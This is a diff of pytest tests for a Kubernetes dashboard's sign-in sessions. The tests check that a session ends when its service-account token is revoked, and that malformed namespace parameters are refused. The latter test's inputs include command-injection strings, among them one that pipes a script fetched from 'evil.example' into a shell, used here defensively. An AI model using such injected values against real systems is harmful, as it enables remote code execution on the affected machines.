@@ -9,12 +9,16 @@ from urllib.parse import urlencode
 import pytest
 from tests.unit.dashboard.conftest import Dashboard, HandClock
 
-from windrow.app.access.management import ApiUser
+from windrow.app.access.management import CODE_PATH, ApiUser
+from windrow.client.client import Client
+from windrow.core.formats.fastjson import dumps, loads
 from windrow.core.rng import Rng
 from windrow.dashboard import sessions
 from windrow.dashboard.guard import local_path
 from windrow.dashboard.sessions import Sessions, SignInCodes, WrongTries
-from windrow.kubernetes.resources import SERVICE_ACCOUNT
+from windrow.kubernetes.handler import Peer
+from windrow.kubernetes.requests import JSON, Request
+from windrow.kubernetes.resources import NAMESPACE, ROLE_BINDING, SECRET, SERVICE_ACCOUNT
 
 
 def user(name: str = "ann") -> ApiUser:
@@ -34,6 +38,41 @@ async def test_a_link_signs_its_user_in_once(dashboard: Dashboard):
     assert again.status == 401
     assert b"Ask for another one: windrow dashboard" in again.body
     assert not second.cookies
+
+
+@pytest.mark.parametrize("revoked", ["account", "Secret"])
+async def test_a_session_by_link_ends_with_the_token_that_asked_for_it(dashboard: Dashboard, revoked: str):
+    api, path = Client(dashboard.api.local()), "/api/v1/namespaces/team/serviceaccounts/robot/token"
+    await api.create(NAMESPACE, {"metadata": {"name": "team"}})
+    await api.create(SERVICE_ACCOUNT, {"metadata": {"name": "robot"}}, "team")
+    bound = await api.create(SECRET, {"metadata": {"name": "bound"}}, "team")
+    view = {"apiGroup": ROLE_BINDING.group, "kind": "ClusterRole", "name": "view"}
+    subject = {"kind": "ServiceAccount", "name": "robot", "namespace": "team"}
+    binding = {"metadata": {"name": "robot"}, "roleRef": view, "subjects": [subject]}
+    await api.create(ROLE_BINDING, binding, "team")
+    to = {"apiVersion": "v1", "kind": "Secret", "name": "bound", "uid": bound["metadata"]["uid"]}
+    wanted = {
+        "kind": "TokenRequest",
+        "apiVersion": "authentication.k8s.io/v1",
+        "spec": {"boundObjectRef": to},
+    }
+    token = (await api.call(Request("POST", path, (), dumps(wanted), JSON)))["status"]["token"]
+    link = Request(
+        "POST", CODE_PATH, (), b'{"namespace": "team"}', JSON, headers=(("Authorization", f"Bearer {token}"),)
+    )
+    reply = await dashboard.api.send(link, Peer())
+    browser = dashboard.browser()
+    assert (
+        await browser.get(f"/sign-in?code={loads(reply.body)['code']}", sec_fetch_site="none")
+    ).status == 303
+    assert (await browser.get("/clusters")).status == 200
+
+    await api.delete(
+        SERVICE_ACCOUNT.ref("robot", "team") if revoked == "account" else SECRET.ref("bound", "team")
+    )
+
+    answer = await browser.get("/clusters")
+    assert (answer.status, answer.headers["Location"].partition("?")[0]) == (303, "/sign-in")
 
 
 async def test_a_link_is_of_no_use_after_a_minute(dashboard: Dashboard):
@@ -254,3 +293,14 @@ def test_the_bounds_are_those_that_the_guide_names():
     assert hours == (timedelta(hours=8), timedelta(hours=1))
     assert (sessions.MAX_SESSIONS_PER_USER, sessions.MAX_WRONG_TRIES) == (20, 10)
     assert (timedelta(minutes=1), timedelta(seconds=6)) == (sessions.CODE_LIFETIME, sessions.WRONG_TRY_EVERY)
+
+
+@pytest.mark.parametrize("page", ["/clusters", "/activity", "/credentials"])
+@pytest.mark.parametrize("namespace", ["x;curl%20evil.example|sh%20%23", "$(id)", "A", "a/b", "a%0Ab"])
+async def test_what_is_no_name_of_a_namespace_is_refused_for_it_would_stand_in_a_command_to_copy(
+    dashboard: Dashboard, page: str, namespace: str
+):
+    answer = await (await dashboard.signed_in()).get(f"{page}?namespace={namespace}")
+
+    assert answer.status == 400
+    assert b"curl" not in answer.body
